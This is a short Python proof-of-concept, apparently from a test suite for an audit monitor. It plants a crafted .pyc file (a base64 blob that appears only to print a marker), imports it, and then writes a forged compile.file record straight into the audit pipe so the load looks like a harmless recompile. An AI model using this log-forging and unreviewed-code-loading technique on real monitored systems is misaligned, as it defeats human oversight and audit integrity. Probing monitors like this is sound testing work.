# _compiled_instead trusts any later record, and the candidate can write records itself: a crafted
# .pyc is loaded, then a forged compile.file line for its source (written straight into the audit pipe)
# marks the .pyc open as "cache missing, compiled instead".
import base64, os, sys, stat, json, importlib.util
blob = base64.b64decode('YwAAAAAAAAAAAAAAAAMAAAAAAAAA8xwAAACXAAIAZQBkAKYBAACrAQAAAAAAAAAAAQBkAVMAKQJ6EE1BUlNIQUwtRVhFQy1SQU5OKQHaBXByaW50qQDzAAAAAPoGPGJsb2I++gg8bW9kdWxlPnIFAAAAAQAAAHMcAAAA8AMBAQHYAAWABdAGGNEAGdQAGdAAGdAAGdAAGXIDAAAA')
os.makedirs("/workspace/__pycache__", exist_ok=True)
open("/workspace/__pycache__/model.cpython-311.pyc", "wb").write(
    importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + b"\0" * 8 + blob)
sys.path.insert(0, "/workspace")
import model
fd = next(f for f in range(10, 600) if os.path.exists(f"/proc/self/fd/{f}") and stat.S_ISFIFO(os.fstat(f).st_mode))
os.write(fd, (json.dumps({"event": "compile.file", "filename": "/workspace/model.py", "pid": os.getpid()}) + "\n").encode())
